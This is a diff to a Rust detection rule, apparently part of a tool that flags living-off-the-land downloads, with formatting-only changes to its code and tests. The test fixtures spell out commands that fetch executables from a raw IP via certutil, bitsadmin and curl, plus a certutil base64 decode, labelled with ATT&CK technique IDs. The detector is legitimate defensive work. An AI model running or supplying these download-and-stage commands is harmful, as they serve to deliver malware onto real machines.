@@ -53,8 +53,7 @@ impl Signal for Lol02 {
                 continue;
             };
             let line = row.str(t::CMDLINE);
-            let raw = crate::rules::content::classes(line)
-                .contains(crate::rules::content::Class::RawIpUrl);
+            let raw = crate::rules::content::classes(line).contains(crate::rules::content::Class::RawIpUrl);
             let common = matches!(tool.as_str(), "curl" | "wget") && writable.is_none() && !raw;
             let to = writable.map(|w| format!(" into {w}")).unwrap_or_default();
             let explain = format!("{tool} fetched a file{to}: {}", command(row));
@@ -85,23 +84,14 @@ mod tests {
     #[test]
     fn downloads_are_told_by_technique() {
         for (line, expected) in [
-            (
-                "certutil -urlcache -split -f http://192.0.2.1/a.exe a.exe",
-                "T1105",
-            ),
-            (
-                "bitsadmin /transfer j http://192.0.2.1/a.exe c:\\a.exe",
-                "T1197",
-            ),
+            ("certutil -urlcache -split -f http://192.0.2.1/a.exe a.exe", "T1105"),
+            ("bitsadmin /transfer j http://192.0.2.1/a.exe c:\\a.exe", "T1197"),
             ("curl -o %TEMP%\\a.exe http://192.0.2.1/a", "T1105"),
             ("curl.exe https://a.example/x.zip --output x.zip", "T1105"),
             ("certutil -decode a.b64 a.exe", "T1140"),
         ] {
             assert_eq!(
-                hits(line)
-                    .first()
-                    .map(|h| h.techniques[0].to_string())
-                    .as_deref(),
+                hits(line).first().map(|h| h.techniques[0].to_string()).as_deref(),
                 Some(expected),
                 "{line}"
             );
